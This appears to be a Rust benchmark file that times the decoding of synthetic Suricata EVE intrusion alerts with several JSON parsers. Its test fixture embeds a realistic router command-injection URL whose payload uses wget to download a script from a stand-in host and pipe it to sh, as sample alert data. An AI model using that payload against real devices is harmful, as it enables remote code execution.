//! JSON input: decode + map of Suricata EVE alert documents (Suricata 7's
//! shape, ~900 bytes each, 100 per Kafka message) into the events the core
//! validates, on one core, with the decoder's default parser (the scanner
//! first for EVE) and with serde_json only; and the parser choice: serde_json,
//! sonic-rs and simd-json deserialising the same borrowed EVE struct (mapping
//! costs the same after either) next to rampart's field-picking scanner. The
//! other formats are measured too.
//!
//! Times are the benchmark thread's CPU time (`cpu_time::ThreadTime`), not
//! wall time: the figure is per core even on a busy shared machine.
//!
//! Run: `cargo bench --bench json_decode -- --warm-up-time 1 --measurement-time 3`

#![allow(clippy::unwrap_used)]

use std::borrow::Cow;
use std::hint::black_box;

use criterion::{Bencher, Criterion, Throughput, criterion_group, criterion_main};
use rampart_core::event::EventView;
use rampart_core::proto::v1::AttackEvent;
use rampart_formats::{Format, JsonDecoder, JsonParser};
use serde::Deserialize;

/// `routine` timed in the thread's CPU time.
fn on_cpu<R>(b: &mut Bencher<'_>, mut routine: impl FnMut() -> R) {
    b.iter_custom(|iters| {
        let start = cpu_time::ThreadTime::now();
        for _ in 0..iters {
            black_box(routine());
        }
        start.elapsed()
    });
}

const DOCS_PER_MESSAGE: usize = 100;
const MESSAGES: usize = 100;

/// A varied, valid event (addresses, ports, kinds, ids, IPv6 one in eight).
fn event(n: u64) -> AttackEvent {
    let v6 = n.is_multiple_of(8);
    AttackEvent {
        time_ms: 1_700_000_000_000 + (n as i64) * 7,
        src_ip: if v6 {
            [
                0x20,
                1,
                0xd,
                0xb8,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                (n >> 8) as u8,
                n as u8,
                1,
            ]
            .to_vec()
        } else {
            vec![
                (n % 223 + 1) as u8,
                (n >> 8) as u8,
                (n >> 16) as u8,
                n as u8,
            ]
        },
        dst_ip: if v6 {
            [0x20, 1, 0xd, 0xb8, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 7].to_vec()
        } else {
            vec![198, 51, 100, (n % 250) as u8]
        },
        src_port: 1024 + (n % 60_000) as u32,
        dst_port: [22, 23, 80, 443, 3389][(n % 5) as usize],
        protocol: 6,
        kind: (n % 5 + 1) as i32,
        rule_id: 2_000_000 + (n % 3000) as u32,
        event_id: format!("{:016x}", n.wrapping_mul(0x9e37_79b9_7f4a_7c15)),
        packets: 1 + n % 40,
        bytes: 60 * (1 + n % 40),
        sensor_id: "sensor-tokyo-1".into(),
    }
}

/// A Suricata 7 alert: the encoder's fields plus what real alerts carry and
/// rampart skips (`pkt_src`, `direction`, `app_proto`, rule metadata, `http`).
fn eve_doc(n: u64) -> String {
    let doc = Format::SuricataEve.encode(&event(n)).unwrap();
    let extra = format!(
        r#","pkt_src":"wire/pcap","direction":"to_server","app_proto":"http","http":{{"hostname":"198.51.100.{}","url":"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F203.0.113.{}%2Ft+-O-+%7C+sh%60)","http_user_agent":"Mozilla/5.0","http_method":"GET","protocol":"HTTP/1.1","length":0}},"metadata":{{"flowbits":["ET.http.binary","ET.INFO.Suspicious.UA"]}}}}"#,
        n % 250,
        n % 200
    );
    format!("{}{extra}", doc.strip_suffix('}').unwrap())
}

fn messages(doc: impl Fn(u64) -> String) -> (Vec<Vec<u8>>, usize) {
    let mut bytes = 0;
    let messages = (0..MESSAGES)
        .map(|m| {
            let docs: Vec<String> = (0..DOCS_PER_MESSAGE)
                .map(|i| doc((m * DOCS_PER_MESSAGE + i) as u64))
                .collect();
            let payload = docs.join("\n").into_bytes();
            bytes += payload.len();
            payload
        })
        .collect();
    (messages, bytes)
}

fn decode_and_map(c: &mut Criterion) {
    let mut group = c.benchmark_group("json_decode_map");
    group.throughput(Throughput::Elements((MESSAGES * DOCS_PER_MESSAGE) as u64));
    // EVE twice: an alert with the app-layer fields real alerts carry, and a
    // lean one (the fields rampart reads and Suricata always writes).
    // The `-serde-only` lines parse with serde_json alone: the path before
    // the scanner, and the one documents the scanner is unsure of take.
    let serde_only = JsonParser::SerdeOnly;
    let cases = [
        (
            "suricata-eve",
            Format::SuricataEve,
            true,
            JsonParser::ScanFirst,
        ),
        (
            "suricata-eve-serde-only",
            Format::SuricataEve,
            true,
            serde_only,
        ),
        (
            "suricata-eve-lean",
            Format::SuricataEve,
            false,
            JsonParser::ScanFirst,
        ),
        (
            "suricata-eve-lean-serde-only",
            Format::SuricataEve,
            false,
            serde_only,
        ),
        ("zeek-conn", Format::ZeekConn, false, JsonParser::ScanFirst),
        ("ocsf", Format::Ocsf, false, JsonParser::ScanFirst),
        ("ecs", Format::Ecs, false, JsonParser::ScanFirst),
    ];
    for (name, format, app_layer, parser) in cases {
        let (msgs, bytes) = if app_layer {
            messages(eve_doc)
        } else {
            messages(|n| format.encode(&event(n)).unwrap())
        };
        eprintln!(
            "{name}: {} bytes per document",
            bytes / (MESSAGES * DOCS_PER_MESSAGE)
        );
        let mut decoder = JsonDecoder::with_parser(parser);
        let mut views: Vec<EventView<'static>> = Vec::new();
        group.bench_function(name, |b| {
            on_cpu(b, || {
                let mut n = 0;
                for m in &msgs {
                    decoder.decode(format, m, 100_000).unwrap();
                    let mut scoped: Vec<EventView<'_>> = std::mem::take(&mut views)
                        .into_iter()
                        .map(|_| EventView::default())
                        .collect();
                    decoder.fill_views(&mut scoped);
                    n +=
                        scoped.iter().map(|v| v.time_ms as usize & 1).sum::<usize>() + scoped.len();
                    scoped.clear();
                    views = scoped.into_iter().map(|_| EventView::default()).collect();
                }
                black_box(n)
            })
        });
    }
    group.finish();
}

/// The EVE fields rampart reads, as `rampart_formats::eve` declares them.
#[derive(Deserialize)]
#[allow(dead_code)]
struct Doc<'a> {
    #[serde(borrow)]
    event_type: Option<Cow<'a, str>>,
    #[serde(borrow)]
    timestamp: Option<Cow<'a, str>>,
    #[serde(borrow)]
    src_ip: Option<Cow<'a, str>>,
    #[serde(borrow)]
    dest_ip: Option<Cow<'a, str>>,
    src_port: Option<u64>,
    dest_port: Option<u64>,
    #[serde(borrow)]
    proto: Option<Cow<'a, str>>,
    flow_id: Option<u64>,
    tx_id: Option<u64>,
    icmp_type: Option<u64>,
    icmp_code: Option<u64>,
    #[serde(borrow)]
    host: Option<Cow<'a, str>>,
    #[serde(borrow)]
    alert: Option<Alert<'a>>,
    flow: Option<Flow>,
}

#[derive(Deserialize)]
#[allow(dead_code)]
struct Alert<'a> {
    signature_id: Option<u64>,
    #[serde(borrow)]
    category: Option<Cow<'a, str>>,
}

#[derive(Deserialize)]
#[allow(dead_code)]
struct Flow {
    pkts_toserver: Option<u64>,
    pkts_toclient: Option<u64>,
    bytes_toserver: Option<u64>,
    bytes_toclient: Option<u64>,
}

fn parser_choice(c: &mut Criterion) {
    let docs: Vec<String> = (0..10_000).map(eve_doc).collect();
    let mut group = c.benchmark_group("eve_parse");
    group.throughput(Throughput::Elements(docs.len() as u64));
    group.bench_function("serde_json", |b| {
        on_cpu(b, || {
            let mut n = 0u64;
            for d in &docs {
                // As `rampart_formats` parses: UTF-8 checked once, then from_str.
                let text = std::str::from_utf8(d.as_bytes()).unwrap();
                let doc: Doc<'_> = serde_json::from_str(text).unwrap();
                n += doc.flow_id.unwrap_or(0) & 1;
            }
            black_box(n)
        })
    });
    group.bench_function("sonic_rs", |b| {
        on_cpu(b, || {
            let mut n = 0u64;
            for d in &docs {
                let doc: Doc<'_> = sonic_rs::from_slice(d.as_bytes()).unwrap();
                n += doc.flow_id.unwrap_or(0) & 1;
            }
            black_box(n)
        })
    });
    let mut scratch = Vec::new();
    group.bench_function("simd_json", |b| {
        on_cpu(b, || {
            let mut n = 0u64;
            for d in &docs {
                scratch.clear();
                scratch.extend_from_slice(d.as_bytes());
                let doc: Doc<'_> = simd_json::serde::from_slice(&mut scratch).unwrap();
                n += doc.flow_id.unwrap_or(0) & 1;
            }
            black_box(n)
        })
    });
    // rampart's scanner: the same fields picked in one validating pass
    // (every document here is one it is sure of; it never falls back).
    group.bench_function("rampart_scan", |b| {
        on_cpu(b, || {
            let mut n = 0u64;
            for d in &docs {
                n += rampart_formats::scan_eve_only(d.as_bytes()).unwrap() & 1;
            }
            black_box(n)
        })
    });
    // sonic-rs' own fast path: one pass fetching the read fields as lazy
    // values, skipping the rest without building it.
    let mut tree = sonic_rs::PointerTree::new();
    for path in [
        &["event_type"][..],
        &["timestamp"],
        &["src_ip"],
        &["dest_ip"],
        &["src_port"],
        &["dest_port"],
        &["proto"],
        &["flow_id"],
        &["tx_id"],
        &["host"],
        &["alert", "signature_id"],
        &["alert", "category"],
        &["flow", "pkts_toserver"],
        &["flow", "pkts_toclient"],
        &["flow", "bytes_toserver"],
        &["flow", "bytes_toclient"],
    ] {
        tree.add_path(path.iter());
    }
    group.bench_function("sonic_rs_get_many", |b| {
        on_cpu(b, || {
            let mut n = 0usize;
            for d in &docs {
                let values = sonic_rs::get_many(d.as_str(), &tree).unwrap();
                n += values.iter().flatten().count();
            }
            black_box(n)
        })
    });
    group.finish();
}

criterion_group!(benches, decode_and_map, parser_choice);
criterion_main!(benches);
